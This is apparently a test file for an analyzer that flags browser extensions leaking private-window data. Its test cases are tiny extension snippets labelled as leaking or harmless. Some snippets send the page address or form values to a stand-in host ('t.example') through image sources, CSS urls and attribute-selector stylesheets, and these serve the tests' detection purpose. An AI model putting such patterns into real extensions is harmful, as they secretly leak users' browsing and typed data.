/**
 * Flows of data through assignments, ports, settings and user actions. Few and fast: `npm run mutate` runs them for
 * each mutant of these conditions.
 */
import { describe, expect, test } from "vitest";
import {
  answerOf,
  answerOfPage,
  answerOfWorker,
  click,
  EXPECTED,
  reportOf,
  reportOn,
  visit,
} from "./extensions.js";

const FIXTURES = {
  leaking: [
    "alarm-by-name",
    "alarm-looks",
    "attribute-node",
    "computed-popup",
    "constant-proxy",
    "constant-redirect",
    "constructor-constructor",
    "cookie-of-alias",
    "external-port-list",
    "filled-options",
    "grown-setting",
    "handler-attribute",
    "injected-other-ending",
    "last-match",
    "link-parts",
    "list-without-incognito",
    "map-delete",
    "markup-code-2",
    "message-says-it",
    "normal-and-more",
    "one-bit",
    "page-title",
    "removed-key",
    "script-ns",
    "selector-sheet",
    "style-alias-dashes",
    "style-declaration",
    "style-text",
    "ticked-by-page",
    "timer-name",
    "to-json",
    "upgrade-elsewhere",
    "with-assign",
  ],
  harmless: [
    "clear-button",
    "clock",
    "dark-toggle",
    "filtered-click",
    "installed-defaults",
    "options-page",
    "port-guarded",
    "reminder",
    "replaced-text",
    "saved-form",
    "word-count",
  ],
} as const;
for (const kind of ["leaking", "harmless"] as const)
  describe(kind, () => {
    for (const name of FIXTURES[kind])
      test(name, async () => expect(answerOf(await reportOf(`${kind}/${name}.txt`))).toBe(EXPECTED[kind]));
  });

const clicked = click("chrome.storage.local.set({ last: clicked.url });");

describe("what is assigned in a page", () => {
  const inner = (name: string): string =>
    `function keep() { let ${name}; [1].forEach(() => { ${name} = document.title; }); } keep(); document.body;`;
  for (const [name, script, expected] of [
    ["a variable that is named like a part of an address", inner("host"), "holds"],
    ["a variable that is named like a style", inner("filter"), "holds"],
    [
      "a part of an address of its own",
      'const address = new URL("https://t.example"); address.search = document.title; console.log(address.href);',
      "holds",
    ],
    ["a part of a link", 'document.querySelector("a").search = document.title;', "violated"],
    [
      "a computed property",
      'const image = new Image(); image["s" + "rc"] = "https://t.example/?" + location.href;',
      "violated",
    ],
    [
      "a style by another name",
      'const it = document.body.style; it.cursor = "url(https://t.example/?" + location.href + ")";',
      "violated",
    ],
    ["a key of an object", "const seen = {}; seen[location.href] = document.title; document.body;", "holds"],
    [
      "a function that makes elements, by another name",
      'const make = document.createElement; make("script");',
      "violated",
    ],
    ["what is written, by a call of the function itself", 'document.write.call(null, "x");', "violated"],
    ["another function, bound", "function show() {} show.call(window);", "holds"],
    ["a copy", "Object.assign({}, { last: document.title }); document.body;", "holds"],
    [
      "no field, beside a form",
      'document.createElement("form"); document.body.lang = document.title;',
      "holds",
    ],
    [
      "no text, beside a style sheet",
      'document.createElement("style"); document.body.lang = document.title;',
      "holds",
    ],
    [
      "a constant style, behind a condition",
      'const sheet = document.createElement("style"); if (document.title) sheet.textContent = "a { color: red }";',
      "holds",
    ],
    [
      "a constant picture of the extension, behind a condition",
      'if (document.title) document.body.background = "pixel.png";',
      "holds",
    ],
    [
      "a constant picture from elsewhere, behind a condition",
      'if (document.title) document.body.background = "https://t.example/pixel.png";',
      "violated",
    ],
  ] as const)
    test(name, async () => {
      expect(await answerOfPage(script)).toBe(expected);
    });
});

describe("what a script in a page does with a message", () => {
  for (const [name, body, stored, expected] of [
    ["shows it", "document.body.textContent = message;", "Date.now()", "holds"],
    ["leaves it there", "document.body.lang = message;", "document.body.lang", "violated"],
  ] as const)
    test(name, async () => {
      const report = await reportOn({
        "manifest.json":
          '{"manifest_version": 3, "background": {"service_worker": "bg.js"}, "content_scripts": [{"matches": ["<all_urls>"], "js": ["cs.js"]}]}',
        "bg.js": visit("chrome.tabs.sendMessage(1, tab.url);"),
        "cs.js": `chrome.runtime.onMessage.addListener((message) => { ${body} }); addEventListener("focus", () => { if (!chrome.extension.inIncognitoContext) chrome.storage.local.set({ at: ${stored} }); });`,
      });
      expect(answerOf(report)).toBe(expected);
    });
});

const setting =
  'const { theme } = await chrome.storage.local.get("theme"); chrome.storage.local.set({ theme: theme });';
const button = (body: string): string => `chrome.action.onClicked.addListener(async () => { ${body} });`;

describe("what is typed and set in pages", () => {
  const field = 'document.querySelector("#name").value';
  const onClick = (body: string): string =>
    `document.querySelector("#save").addEventListener("click", async () => { ${body} });`;
  const stored = onClick(`const name = ${field}; chrome.storage.local.set({ name: name });`);
  const box = 'document.querySelector("#box").checked';
  const ticked = onClick(`chrome.storage.local.set({ on: ${box} });`);
  const [options, popup, content] = [
    { options_page: "p.html" },
    { action: { default_popup: "p.html" } },
    { content_scripts: [{ matches: ["<all_urls>"], js: ["p.js"] }] },
  ];
  for (const [name, keys, script, expected] of [
    ["typed into options", options, stored, "holds"],
    ["typed into a popup", popup, stored, "violated"],
    [
      "typed into a popup, at once",
      popup,
      onClick(`chrome.storage.local.set({ name: ${field} });`),
      "violated",
    ],
    [
      "something else in options",
      options,
      onClick(
        "const [tab] = await chrome.tabs.query({ active: true }); const url = tab.url; chrome.storage.local.set({ url: url });",
      ),
      "violated",
    ],
    [
      "typed into options that fill in something else",
      options,
      `chrome.tabs.query({ active: true }).then(([tab]) => { ${field} = tab.url; }); ${stored}`,
      "violated",
    ],
    ["a box that is ticked by a constant", popup, `${box} = true; ${ticked}`, "holds"],
    ["a box that is ticked by something else", popup, `${box} = navigator.onLine; ${ticked}`, "violated"],
    [
      "a box that is ticked by a tab that is named like a setting",
      popup,
      `chrome.storage.local.get("dark").then(({ dark }) => console.log(dark)); chrome.tabs.query({ active: true }).then(([dark]) => { ${box} = dark.audible; }); ${ticked}`,
      "violated",
    ],
    ["a setting, by the user", popup, onClick(setting), "holds"],
    ["a setting, when a page is loaded", popup, `window.onload = async () => { ${setting} };`, "violated"],
    [
      "a setting, when a page is loaded, by a listener",
      popup,
      `window.addEventListener("load", async () => { ${setting} });`,
      "violated",
    ],
    [
      "a setting, by a click in a page",
      content,
      `document.body.onclick = async () => { ${setting} };`,
      "violated",
    ],
    ["a setting, by a click in a page, by a listener", content, onClick(setting), "violated"],
  ] as const)
    test(name, async () => {
      const report = await reportOn({
        "manifest.json": JSON.stringify({ manifest_version: 3, ...keys }),
        "p.html": '<input id="name"><button id="save"></button><script src="p.js"></script>',
        "p.js": script,
      });
      expect(answerOf(report)).toBe(expected);
    });
});

describe("handlers of a background page", () => {
  const connected = (guard: string): string =>
    `chrome.runtime.onConnect.addListener((port) => { ${guard} port.onMessage.addListener((message) => { chrome.storage.local.set({ last: message }); }); });`;
  for (const [name, script, expected] of [
    ["a port that is asked first", connected("if (port.sender.tab.incognito) return;"), "holds"],
    ["a port that is not asked", connected(""), "violated"],
    ["a port that is asked something else", connected("if (port.sender.tab.audible) return;"), "violated"],
    ["a port that is used before", connected("console.log(port.name);"), "violated"],
    [
      "a port that is asked for nothing",
      connected('if (port.sender.tab.incognito) console.log("private");'),
      "violated",
    ],
    ["a port of private windows alone", connected("if (!port.sender.tab.incognito) return;"), "violated"],
    // Over-approximated.
    [
      "a port that is asked by another name",
      connected("const it = port; if (it.sender.tab.incognito) return;"),
      "violated",
    ],
    [
      "a key that the user takes away",
      "chrome.action.onClicked.addListener((tab) => { chrome.storage.local.remove(tab.url); });",
      "violated",
    ],
    [
      "a constant that the user stores, by the page",
      'chrome.action.onClicked.addListener((tab) => { if (tab.url.includes("x")) chrome.storage.local.set({ on: true }); });',
      "violated",
    ],
    [
      "headers of other requests",
      visit(
        'chrome.declarativeNetRequest.updateSessionRules({ addRules: [{ id: 1, action: { type: "modifyHeaders", requestHeaders: [{ header: "x-last", operation: "set", value: tab.url }] }, condition: { urlFilter: "x" } }] });',
      ),
      "violated",
    ],
    [
      "a key of something, where there are no elements",
      `function put(it, key) { it[key] = key; } ${visit("put({}, tab.url);")}`,
      "holds",
    ],
    [
      "a constant key that the user takes away",
      'chrome.action.onClicked.addListener((tab) => { if (tab.url) chrome.storage.local.remove("key"); });',
      "holds",
    ],
    [
      "a constant style sheet that fetches by the page",
      `${visit('document.body.style.cssText = "input[value^=a] { background: url(https://t.example/a) }";')} ${clicked}`,
      "violated",
    ],
    [
      "what an event may bring back",
      `${visit("chrome.action.setTitle({ title: tab.url });")} ${clicked}`,
      "violated",
    ],
    [
      "a setting that grows",
      button(
        'const { list } = await chrome.storage.local.get("list"); const [tab] = await chrome.tabs.query({ active: true, currentWindow: true }); list.push(tab.url); chrome.storage.local.set({ list: list });',
      ),
      "violated",
    ],
    ["a package for its effects", 'import "tracker";', "violated"],
    ["a package, late", 'import("tracker");', "violated"],
    [
      "a method that the language calls",
      `class Page { toString() { chrome.storage.local.set({ last: this.url }); return ""; } } ${click("clicked.id.toString();")}`,
      "violated",
    ],
    [
      "a method that a proxy calls",
      `const seen = new Proxy({}, { get: (target, key) => { chrome.storage.local.set({ last: key }); } }); ${click('chrome.storage.local.get("x");')}`,
      "violated",
    ],
    [
      "a method by the name of one that a proxy calls",
      `const store = { get: (url) => { chrome.storage.local.set({ last: url }); } }; ${click("store.get(clicked.url);")}`,
      "holds",
    ],
    [
      "another method, beside a proxy",
      `const store = { keep: (url) => { chrome.storage.local.set({ last: url }); } }; ${click("store.keep(clicked.url);")} // no Proxy`,
      "holds",
    ],
    ["a page whose name is computed", "console.log(chrome.runtime.getURL(location.hash));", "violated"],
    ["a popup whose name is computed", "chrome.action.setPopup({ popup: location.hash });", "violated"],
    ["a worker that is made of text", 'new Worker("data:text/javascript,1");', "violated"],
    ["another extension, by its name", 'chrome.runtime.connect("other");', "violated"],
    ["nothing that is stored", visit("chrome.storage.local.set({ last: undefined });"), "holds"],
    ["a setting that the user changes", button(setting), "holds"],
    ["a setting, on every visit", visit(setting), "violated"],
    // Over-approximated.
    [
      "the length of a text that is named like a setting",
      button(`${setting} chrome.storage.local.set({ length: "theme".length });`),
      "violated",
    ],
    [
      "a box that is ticked, in no page of the extension",
      button('chrome.storage.local.set({ on: document.querySelector("#box").checked });'),
      "violated",
    ],
    [
      "some tabs of normal windows",
      button(
        "const open = (await chrome.tabs.query({})).filter((each) => !each.incognito); chrome.storage.local.set({ open: open.slice(0, 5).map((each) => each.url) });",
      ),
      "holds",
    ],
    [
      "something that is made by what is not seen",
      `const store = makeStore(); ${visit("store.add(tab.url);")}`,
      "violated",
    ],
    [
      "an alarm, beside a function by the name of a text",
      'chrome.alarms.onAlarm.addListener(() => { chrome.storage.local.set({ kind: "save", at: Date.now() }); }); function save() {}',
      "holds",
    ],
    [
      "a constant picture from elsewhere",
      `${visit('document.body.background = "https://t.example/pixel.png";')} ${clicked}`,
      "holds",
    ],
  ] as const)
    test(name, async () => expect(await answerOfWorker(script)).toBe(expected));
});
